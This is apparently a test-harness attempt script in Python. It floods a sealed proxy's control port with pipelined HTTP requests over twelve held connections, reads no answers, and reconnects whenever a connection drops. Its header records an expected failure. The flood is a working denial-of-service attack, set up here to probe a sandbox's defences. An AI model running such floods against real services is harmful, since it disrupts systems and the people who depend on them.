# tries: sends the sealed proxy's control port requests without end on twelve connections, and reads no answer
# ends: fail objective-missed
import socket
import time

from attempts import at_answer, later, say

AHEAD = b"GET /version HTTP/1.1\r\nhost: front\r\n\r\n" * 5000


def flood():
    sent, held = 0, []
    for _ in range(12):
        held.append(socket.create_connection(("front", 8474), timeout=1))
        held[-1].setblocking(False)
    say("TRIED requests ahead")
    while True:
        for one in held:
            try:
                sent += one.send(AHEAD)
            except BlockingIOError:
                pass
            except OSError as error:
                say(f"TRIED requests ahead: {error} after {sent} bytes")
                one.close()
                held[held.index(one)] = socket.create_connection(("front", 8474), timeout=1)
        time.sleep(0.01)


at_answer(3, lambda: later(flood))
